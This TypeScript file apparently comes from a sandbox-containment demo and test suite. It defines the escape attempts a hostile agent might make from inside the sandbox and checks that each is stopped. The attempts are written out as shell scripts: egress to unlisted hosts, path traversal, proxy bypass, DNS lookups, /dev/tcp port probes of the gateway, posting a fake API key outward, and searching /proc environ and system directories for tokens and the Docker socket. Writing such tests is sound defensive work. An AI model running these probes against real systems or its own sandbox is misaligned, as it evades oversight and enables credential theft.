/** What a hostile agent would try, from inside a running bottle: for the demo's table and for the escape tests. */

import type { Bottle } from "../../lib/bottle/contracts.ts";
import { TOKEN_PREFIX } from "./lab.ts";
import { API_HOST, UNLISTED_HOST, UPLOAD_HOST } from "./lab_manifests.ts";

/** One attempt. */
export interface Wall {
  /** What is tried. */
  readonly attempt: string;
  /** Shell script, run as the agent's user in the guest. */
  readonly script: string;
  /** What stops it, when the wall holds. */
  readonly stoppedBy: string;
  /** Whether the script's output shows that it was stopped. */
  readonly held: (output: string) => boolean;
}

/** How an attempt ended. */
export interface WallResult {
  readonly wall: Wall;
  readonly held: boolean;
  /** Output of the attempt, for whoever looks into a broken wall. */
  readonly output: string;
}

/** Addresses that the attempts need. */
export interface WallTargets {
  /** The stand-in's own address. */
  readonly address: string;
  /** Gateway of the bottle's internal network. */
  readonly gateway: string;
}

/** The status curl saw, and the body. */
const CURL = "curl -sS -m 15 -w ' [%{http_code}]'";

/** A key that looks real enough to be stopped, put together at run time so that no scanner takes this file for a leak. */
const FAKE_KEY = `sk-ant-api03-${"Zx9Yw8Vu7Ts6".repeat(8)}`;

/** A request that must pass, or the walls prove nothing: everything could simply be down. */
export const CONTROL: Wall = {
  attempt: "listed host, listed path",
  script: `${CURL} https://${API_HOST}/v1/hello 2>&1`,
  stoppedBy: "",
  held: (output) => output.includes("[200]") && output.includes("echo GET /v1/hello"),
};

/** Every wall that the demo shows. */
export function walls({ address, gateway }: WallTargets): readonly Wall[] {
  const refusedBySandbox = (output: string) =>
    /Permission denied|No route to host|Network is unreachable|Operation not permitted|Couldn't connect|Failed to connect/
      .test(output) && !/open|answered|\[[1-5]\d\d\]/.test(output);
  return [
    {
      attempt: "host that is not listed",
      script: `${CURL} https://${UNLISTED_HOST}/ 2>&1; ${CURL} http://${UNLISTED_HOST}/ 2>&1`,
      stoppedBy: "egress: 403, not on the route table",
      held: (output) => output.includes("403") && !output.includes("echo GET"),
    },
    {
      attempt: "listed host, path that is not listed",
      script:
        `${CURL} --path-as-is https://${API_HOST}/private 2>&1; ${CURL} --path-as-is https://${API_HOST}/v1/..%2fprivate 2>&1`,
      stoppedBy: "egress: 403, path not allowed",
      held: (output) => output.split("[403]").length === 3 && !output.includes("echo GET"),
    },
    {
      attempt: "direct connection, past the proxy",
      script:
        `curl -sS -m 5 -k --noproxy '*' https://${address}/ 2>&1; curl -sS -m 5 --noproxy '*' http://192.0.2.1/ 2>&1`,
      stoppedBy: "sandbox: no route",
      held: refusedBySandbox,
    },
    {
      attempt: "a name over DNS",
      script: "dig +time=2 +tries=1 @127.0.0.11 example.org 2>&1; getent hosts example.org && echo answered",
      stoppedBy: "sandbox: no resolver",
      held: (output) => !/answered|NOERROR|ANSWER SECTION/.test(output),
    },
    {
      attempt: "the host, at the gateway",
      script: [22, 53, 80, 443, 2375].map((port) =>
        `timeout 5 bash -c 'exec 3<>/dev/tcp/${gateway}/${port} && echo open' 2>&1`
      ).join("; "),
      stoppedBy: "sandbox: no route",
      held: refusedBySandbox,
    },
    {
      attempt: "a secret in a request body",
      script: `${CURL} https://${UPLOAD_HOST}/notes -d 'note=${FAKE_KEY}' 2>&1`,
      stoppedBy: "pipelock: blocked by DLP",
      held: (output) => /\[403\]/.test(output) && !output.includes("echo POST"),
    },
    {
      attempt: "reading the token",
      // The bracket keeps the search from finding itself.
      script:
        `find /proc -maxdepth 2 -name environ 2>/dev/null | xargs cat 2>/dev/null | tr '\\0' '\\n' | grep -a '${
          bracketed(TOKEN_PREFIX)
        }' ; grep -rslaI '${
          bracketed(TOKEN_PREFIX)
        }' /home /tmp /etc /run /var /opt 2>/dev/null | head; ls -la /var/run/docker.sock 2>&1; echo searched`,
      stoppedBy: "it is not there",
      held: (output) =>
        output.trim().endsWith("searched") && output.includes("No such file") &&
        !output.includes(TOKEN_PREFIX) && !output.includes("/home/"),
    },
  ];
}

/** Tries one wall. */
export async function tryWall(bottle: Bottle, wall: Wall): Promise<WallResult> {
  const { stdout, stderr } = await bottle.exec(wall.script, { user: "node" });
  const output = (stdout + stderr).trim();
  return { wall, held: wall.held(output), output };
}

function bracketed(text: string): string {
  return `[${text[0]}]${text.slice(1)}`;
}
